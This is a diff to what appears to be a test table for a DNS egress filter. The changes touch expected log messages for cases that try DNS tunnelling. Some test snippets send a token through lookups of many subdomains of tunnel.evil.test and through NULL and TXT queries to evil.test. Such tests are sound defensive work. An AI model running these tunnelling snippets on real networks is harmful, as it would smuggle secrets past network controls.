@@ -91,13 +91,13 @@ for i in range(20):
     except OSError:
         continue
     if a:
-        return 'answered'`, event: `(lookup|limit) .*yyyy.*(too long|say more)`, shut: "they are too long for every policy"},
+        return 'answered'`, event: `(lookup|limit) .*yyyy.*(too long|too much data)`, shut: "they are too long for every policy"},
 	{name: "tunnel: names of a host that nobody named", code: `
 for i in range(30):
     ask(token + str(i) + '.tunnel.evil.test')`, event: `lookup .*tunnel.evil.test .*no rule`},
 	{name: "tunnel: NULL records", code: `
 code, _, a = ask(token + '.wild.test', 10)
-return a or None`, event: `lookup .*wild.test .*kind`, shut: "our DNS has no such records"},
+return a or None`, event: `lookup .*wild.test .*records of this type`, shut: "our DNS has no such records"},
 	{name: "tunnel: TXT records", code: `
 code, _, a = ask(token + '.evil.test', 16)
 return a or None`, event: `lookup .*evil.test .*no rule`},
